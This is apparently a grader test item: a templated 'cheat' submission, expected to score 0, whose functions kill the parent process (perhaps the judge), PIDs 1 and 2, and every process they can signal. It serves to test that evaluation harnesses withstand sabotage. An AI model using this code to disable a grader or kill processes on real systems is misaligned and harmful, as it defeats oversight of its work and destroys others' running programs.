# cheat: stops and kills all that it may signal, the judge perhaps among it
# scores: = 0

# %% answer
import os
import signal


def killing(*all, **named):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for target in (os.getppid(), 1, 2):
            try:
                os.kill(target, number)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)


for name in {{names}}:
    globals()[name] = killing
